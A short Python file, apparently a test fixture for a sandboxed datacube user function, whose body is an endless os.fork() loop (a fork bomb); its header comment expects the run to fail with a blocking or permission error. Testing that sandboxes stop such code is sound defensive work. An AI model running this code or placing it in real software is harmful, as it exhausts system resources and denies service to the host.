# error: BlockingIOError|PermissionError|OSError
import os

def apply_datacube(cube: xarray.DataArray, context: dict) -> xarray.DataArray:
    while True:
        os.fork()
